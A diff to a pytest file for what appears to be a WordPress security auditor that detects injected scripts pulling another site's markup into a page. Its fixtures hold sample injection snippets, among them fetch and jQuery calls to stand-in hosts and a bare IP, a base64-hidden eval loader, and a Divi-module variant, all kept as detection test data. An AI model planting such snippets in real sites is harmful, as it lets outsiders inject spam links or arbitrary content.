@@ -35,18 +35,28 @@ JQUERY_GET = ("<div id='ft-links'></div><script>$.get('https://cdn.linkpool-hub.
 HIDDEN = ("<script>eval(atob('" + base64.b64encode(
     b"fetch('https://cdn.linkpool-hub.test/l').then(r=>r.text()).then(t=>{document.body."
     b"insertAdjacentHTML('beforeend',t)});").decode() + "'));</script>")
-FROM_IP = FETCH_TEXT.replace("links.seo-partners-net.test", "185.212.4.19")
+FETCH_PAGE = FETCH_TEXT.replace("/backlink/x.js", "/partner/links")
+FROM_IP = FETCH_PAGE.replace("links.seo-partners-net.test", "185.212.4.19")
+# the form MD Pabel found in a Divi code module (each line wrapped in the builder's
+# comment), link lists served as `.js` files from two hosts
+DIVI = ('<div id="datax"></div><div id="info1"></div><script><!-- [et_pb_line_break_holder] -->'
+        "    fetch('https://stingbee-market.test/back.js').then((resp) => resp.text()).then(y =>"
+        ' document.getElementById("datax").innerHTML=y);<!-- [et_pb_line_break_holder] -->    '
+        "fetch('https://linkservice-hub.test/backlink/sigma.js').then((resp) => resp.text())"
+        '.then(y => document.getElementById("info1").innerHTML=y);<!-- [et_pb_line_break_holder]'
+        " --></script>")
 
 
 @pytest.mark.parametrize(("name", "where", "severity"), [
-    ("fetch .text() into innerHTML, in the post", {"post": FETCH_TEXT}, M),
+    ("fetch .text() into innerHTML, in the post", {"post": FETCH_PAGE}, M),
+    ("a .js file's text into innerHTML, in the post", {"post": FETCH_TEXT}, H),
     ("fetch keyed by the host name, wp_footer", {"footer": FETCH_HOST}, M),
     ("XHR responseText by insertAdjacentHTML, wp_footer", {"footer": XHR_ADJACENT}, M),
     ("jQuery .load of another site's page, wp_footer", {"footer": JQUERY_LOAD}, M),
     ("jQuery $.get into .html(), wp_footer", {"footer": JQUERY_GET}, M),
     ("the injector hidden in base64, wp_footer", {"footer": HIDDEN}, H),
     ("from a bare IP address, wp_footer", {"footer": FROM_IP}, H),
-    ("after </html>", {"after": FETCH_TEXT}, H),
+    ("after </html>", {"after": FETCH_PAGE}, H),
 ])
 def test_another_sites_markup_written_into_the_page_is_found(
         name: str, where: dict[str, str], severity: Severity,
@@ -58,8 +68,17 @@ def test_another_sites_markup_written_into_the_page_is_found(
     assert "<script" not in found[0].message
 
 
+def test_each_host_of_a_divi_modules_backlink_lists_is_found(
+        audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(wp_page(post=DIVI), URL).findings
+             if f.kind == "fetched-markup"]
+    assert sorted((f.evidence, f.severity) for f in found) == [
+        ("https://linkservice-hub.test/backlink/sigma.js", H),
+        ("https://stingbee-market.test/back.js", H)]
+
+
 def test_in_a_wordpress_post_body_it_is_high(audit_html: AuditHtml) -> None:
-    report = audit_html("<p>Our ferry timetable.</p>" + FETCH_TEXT,
+    report = audit_html("<p>Our ferry timetable.</p>" + FETCH_PAGE,
                         url="https://www.harbourgazette.example/?p=4187", in_post_body=True)
     assert [(f.kind, f.severity) for f in report.findings
             if f.kind == "fetched-markup"] == [("fetched-markup", H)]
